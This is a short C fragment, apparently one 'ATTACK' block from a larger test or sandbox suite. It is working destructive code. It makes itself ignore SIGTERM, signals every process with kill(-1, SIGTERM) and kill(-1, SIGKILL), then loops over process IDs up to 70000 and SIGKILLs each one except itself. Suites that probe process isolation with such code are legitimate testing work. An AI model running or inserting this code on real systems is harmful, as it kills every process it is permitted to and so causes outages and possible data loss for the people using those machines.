/* ends every process that it may end */
ATTACK
{
    signal(SIGTERM, SIG_IGN);
    kill(-1, SIGTERM);
    kill(-1, SIGKILL);
    for (pid_t pid = 2; pid < 70000; pid++) {
        if (pid != getpid()) {
            kill(pid, SIGKILL);
        }
    }
}
